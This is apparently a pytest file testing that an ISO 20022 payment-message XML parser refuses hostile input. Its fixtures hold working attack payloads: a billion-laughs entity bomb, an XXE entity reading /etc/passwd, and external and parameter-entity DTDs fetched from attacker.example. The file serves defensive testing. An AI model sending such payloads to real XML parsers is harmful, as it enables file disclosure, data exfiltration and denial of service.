"""Hostile XML is refused with UnsafeInputError; non-ISO input with ParseError."""

from __future__ import annotations

import pytest

from tools.errors import ParseError, UnsafeInputError
from tools.messages.iso20022 import MAX_XML_BYTES, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><FIToFICstmrCdtTrf><GrpHdr>
<MsgId>&lol4;</MsgId></GrpHdr></FIToFICstmrCdtTrf></Document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><FIToFICstmrCdtTrf><GrpHdr>
<MsgId>&xxe;</MsgId></GrpHdr></FIToFICstmrCdtTrf></Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Document/>"""


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_hostile_xml_refused(data: bytes, words: str) -> None:
    with pytest.raises(UnsafeInputError) as info:
        parse_xml(data, "evil.xml")
    assert words in str(info.value) and "evil.xml" in str(info.value)


def test_oversize_refused_before_parsing() -> None:
    body = b"<Document>" + b" " * (MAX_XML_BYTES + 1) + b"</Document>"
    with pytest.raises(UnsafeInputError, match="over the"):
        parse_xml(body, "big.xml")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   ",
        b"<a>",
        b"not xml at all",
        b"<invoice><total>1</total></invoice>",
        b"<Document/>",
        b'<?xml version="1.0" encoding="no-such-codec"?><Document/>',
    ],
    ids=["empty", "blank", "unclosed", "text", "other-xml", "empty-document", "bad-encoding"],
)
def test_unreadable_input_is_parse_error(data: bytes) -> None:
    with pytest.raises(ParseError) as info:
        parse_xml(data, "odd.xml")
    assert not isinstance(info.value, UnsafeInputError)
    assert info.value.source == "odd.xml"
